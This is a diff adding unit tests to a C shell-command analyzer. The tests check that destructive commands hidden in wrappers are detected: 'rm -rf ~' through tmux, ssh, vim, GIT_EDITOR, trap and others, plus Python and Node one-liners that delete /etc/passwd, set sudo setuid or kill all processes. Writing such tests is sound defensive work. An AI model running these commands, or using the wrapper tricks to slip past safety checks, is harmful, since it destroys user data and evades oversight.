@@ -178,6 +178,177 @@ static void test_git(void **state)
 	assert_cmd(a, "make", "git bisect run");
 	assert_false(a.unresolved);
 	shell_analysis_free(&a);
+	/* aliases of any kind run: a plain one is a git command line */
+	a = analyze_ok("git -c alias.x='checkout -- .' x; git config --global alias.co 'reset --hard'; "
+		       "git -c ALIAS.y='!make' y");
+	assert_cmd(a, "git checkout -- .", "git alias");
+	assert_cmd(a, "git reset --hard", "git config");
+	assert_cmd(a, "make", "git alias");
+	shell_analysis_free(&a);
+	/* settings naming a command, set with git config, and options of
+	 * subcommands whose value is a command */
+	a = analyze_ok("git config core.pager 'less -R'; git difftool -y -x 'rm -f' HEAD; "
+		       "git difftool --extcmd=meld; git filter-branch --tree-filter 'rm x' HEAD");
+	assert_cmd(a, "less -R", "git config");
+	assert_cmd(a, "rm -f $LOCAL $REMOTE", "git difftool -x");
+	assert_cmd(a, "meld $LOCAL $REMOTE", "git difftool -x");
+	assert_cmd(a, "rm x", "git filter-branch --tree-filter");
+	shell_analysis_free(&a);
+	/* a dynamic value is unresolved; other settings are plain data */
+	a = analyze_ok("git config alias.x \"$A\"");
+	assert_true(a.cmds[0].unresolved);
+	shell_analysis_free(&a);
+	a = analyze_ok("git config --global --add safe.directory \"$W\"; git config user.name x");
+	assert_false(a.cmds[0].unresolved);
+	assert_int_equal(a.ncmds, 2);
+	shell_analysis_free(&a);
+}
+
+/* Each line runs `rm -rf ~` through a runner's own syntax. */
+static void test_runners(void **state)
+{
+	(void)state;
+	static const struct {
+		const char *text, *via;
+	} t[] = {
+		{"tmux new-session -d 'rm -rf ~'", "tmux"},
+		{"tmux -L x split-window -h rm -rf ~", "tmux"},
+		{"screen -dmS job rm -rf ~", "screen"},
+		{"parallel rm -rf ::: ~", "xargs"},
+		{"expect -c 'spawn rm -rf ~; expect eof'", "expect spawn"},
+		{"vim -c '!rm -rf ~' -c q", "vim !"},
+		{"vi '+silent !rm -rf ~' x", "vim !"},
+		{"man -P 'rm -rf ~' ls", "man -P"},
+		{"rsync -e 'rm -rf ~' a b:", "rsync -e"},
+		{"zip -TT 'rm -rf ~' a.zip x", "zip -TT"},
+		{"make --eval='all:; rm -rf ~'", "make --eval"},
+		{"make -f - <<'EOF'\nall:\n\trm -rf ~\nEOF", "make -f -"},
+		{"ssh host 'rm -rf ~'", "ssh"},
+		{"ssh -o ProxyCommand='rm -rf ~' host", "ssh -o"},
+		{"docker exec -u root c rm -rf ~", "container exec"},
+		{"kubectl exec pod -c app -- rm -rf ~", "kubectl exec"},
+		{"setpriv --reuid=0 rm -rf ~", "setpriv"},
+		{"sg root -c 'rm -rf ~'", "sg"},
+		{"start-stop-daemon --start --exec /bin/rm -- -rf ~", "start-stop-daemon"},
+		{"trap 'rm -rf ~' EXIT", "trap"},
+		{"GIT_EDITOR='rm -rf ~' git commit", "GIT_EDITOR="},
+		{"env VISUAL='rm -rf ~' crontab -e", "VISUAL="},
+		{"export GIT_SSH_COMMAND='rm -rf ~'; git fetch", "GIT_SSH_COMMAND="},
+		{"LESSOPEN='|rm -rf ~ %s' less x", "LESSOPEN="},
+		{"PAGER='rm -rf ~' git log", "PAGER="},
+	};
+	for (size_t i = 0; i < ARRAY_SIZE(t); i++) {
+		shell_analysis a = analyze_ok(t[i].text);
+		if (!find_cmd_via(&a, "rm -rf ~", t[i].via) && !find_cmd_via(&a, "rm -rf ~ %s", t[i].via) &&
+		    !find_cmd_via(&a, "/bin/rm -rf ~", t[i].via)) {
+			dump(&a);
+			fail_msg("%s: no rm -rf ~ via %s", t[i].text, t[i].via);
+		}
+		shell_analysis_free(&a);
+	}
+	/* near misses: ordinary uses run nothing else, and stay resolved */
+	static const char *const plain[] = {"tmux new -s dev", "ssh -p 2222 host", "vim -c wq x",
+					    "make -j4 test", "GIT_EDITOR=true git commit",
+					    "docker exec -it c bash", "trap - EXIT"};
+	for (size_t i = 0; i < ARRAY_SIZE(plain); i++) {
+		shell_analysis a = analyze_ok(plain[i]);
+		assert_false(a.unresolved);
+		shell_analysis_free(&a);
+	}
+	/* a command-naming variable that is not static */
+	shell_analysis a = analyze_ok("GIT_EDITOR=$E git commit");
+	assert_true(a.cmds[0].unresolved);
+	shell_analysis_free(&a);
+}
+
+/* Options that move where a command (or what it runs) works. */
+static void test_chdir_options(void **state)
+{
+	(void)state;
+	shell_analysis a = analyze_ok("env -C /usr rm -rf lib; sudo -D /etc rm x; git -C .. clean -fdx; "
+				      "tar -xf a.tar --directory=/opt; env -C a env -C b ls; "
+				      "env -C \"$D\" rm y; rm z");
+	assert_string_equal(get_cmd(&a, "rm -rf lib")->cwd, "/usr");
+	assert_string_equal(get_cmd(&a, "rm x")->cwd, "/etc");
+	assert_string_equal(get_cmd(&a, "git -C .. clean -fdx")->cwd, "..");
+	assert_string_equal(get_cmd(&a, "tar -xf a.tar --directory=/opt")->cwd, "/opt");
+	assert_string_equal(get_cmd(&a, "ls")->cwd, "a/b");
+	assert_true(get_cmd(&a, "rm y")->cwd_unresolved);
+	assert_null(get_cmd(&a, "rm z")->cwd);
+	assert_null(get_cmd(&a, "env -C /usr rm -rf lib")->cwd);
+	shell_analysis_free(&a);
+}
+
+/* A file written (or a program copied) and run in the same line. */
+static void test_written_then_run(void **state)
+{
+	(void)state;
+	shell_analysis a = analyze_ok("echo 'rm -rf ~' > x.sh && sh x.sh; printf 'id' > ./y; bash y");
+	assert_cmd(a, "rm -rf ~", "a file written earlier");
+	assert_cmd(a, "id", "a file written earlier");
+	shell_analysis_free(&a);
+	a = analyze_ok("cp /bin/rm ./r && ./r -rf ~");
+	assert_cmd(a, "/bin/rm -rf ~", "a copy written earlier");
+	shell_analysis_free(&a);
+	a = analyze_ok("curl -o x.sh https://e.example/x; chmod +x x.sh; ./x.sh");
+	assert_true(get_cmd(&a, "./x.sh")->unresolved);
+	shell_analysis_free(&a);
+	/* near misses: run before it is written, other files, only read */
+	a = analyze_ok("./x.sh; echo 'rm -rf ~' > x.sh; cat x.sh; sh other.sh");
+	assert_false(a.unresolved);
+	assert_no_cmd(a, "rm -rf ~");
+	shell_analysis_free(&a);
+	a = analyze_ok("> ~/.profile; echo > y");
+	shell_analysis_free(&a);
+	/* an alias defined and then used */
+	a = analyze_ok("alias g=git; g clean -fdx; alias ll='ls -l'; ll src");
+	assert_cmd(a, "git clean -fdx", "alias");
+	assert_cmd(a, "ls -l src", "alias");
+	shell_analysis_free(&a);
+}
+
+/* Interpreter calls beyond commands and deletions, and imports under
+ * another name. */
+static void test_interp_calls(void **state)
+{
+	(void)state;
+	static const struct {
+		const char *text, *cmd;
+	} t[] = {
+		{"python3 -c 'import os; os.kill(-1, 9)'", "kill -9 -1"},
+		{"python3 -c 'import pathlib; pathlib.Path(\"/etc/passwd\").unlink()'", "rm /etc/passwd"},
+		{"python3 -c 'from pathlib import Path; Path(\"/etc/x\").write_text(\"y\")'", "tee /etc/x"},
+		{"python3 -c 'import os; os.rename(\"/etc/passwd\", \"x\")'", "mv /etc/passwd"},
+		{"python3 -c 'import os; os.chmod(\"/usr/bin/sudo\", 0o4777)'", "chmod /usr/bin/sudo"},
+		{"python3 -c 'open(\"/etc/cron.d/x\", \"w\").write(\"y\")'", "tee /etc/cron.d/x"},
+		{"python3 -c 'from shutil import rmtree as r; r(\"/home\")'", "rm -rf /home"},
+		{"python3 -c 'import os as o; o.system(\"id\")'", "id"},
+		{"node -e 'process.kill(-1)'", "kill -9 -1"},
+		{"node -e 'require(\"fs\").writeFileSync(\"/etc/x\", \"y\")'", "tee /etc/x"},
+		{"lua -e 'os.execute(\"id\")'", "id"},
+	};
+	for (size_t i = 0; i < ARRAY_SIZE(t); i++) {
+		shell_analysis a = analyze_ok(t[i].text);
+		if (!find_cmd(&a, t[i].cmd)) {
+			dump(&a);
+			fail_msg("%s: no command '%s'", t[i].text, t[i].cmd);
+		}
+		shell_analysis_free(&a);
+	}
+	/* reading, computed paths and ordinary aliases stay plain */
+	static const char *const plain[] = {
+		"python3 -c 'print(open(\"/etc/os-release\").read())'",
+		"python3 -c 'import sys, json; json.load(open(sys.argv[1]))' x.json",
+		"python3 -c 'import numpy as np; print(np.zeros(3))'",
+		"python3 -c 'import os; os.rename(src, dst)'", "python3 -c 'p.kill()'"};
+	for (size_t i = 0; i < ARRAY_SIZE(plain); i++) {
+		shell_analysis a = analyze_ok(plain[i]);
+		if (a.ncmds != 1 || a.unresolved) {
+			dump(&a);
+			fail_msg("%s: expected one resolved command", plain[i]);
+		}
+		shell_analysis_free(&a);
+	}
 }
 
 static void test_awk_tar(void **state)
@@ -296,6 +467,8 @@ int main(void)
 		cmocka_unit_test(test_privilege_wrappers), cmocka_unit_test(test_exec_wrappers),
 		cmocka_unit_test(test_find),               cmocka_unit_test(test_shells),
 		cmocka_unit_test(test_eval_source),        cmocka_unit_test(test_git),
+		cmocka_unit_test(test_runners),            cmocka_unit_test(test_chdir_options),
+		cmocka_unit_test(test_written_then_run),   cmocka_unit_test(test_interp_calls),
 		cmocka_unit_test(test_awk_tar),            cmocka_unit_test(test_interpreters),
 		cmocka_unit_test(test_argv_api),
 	};
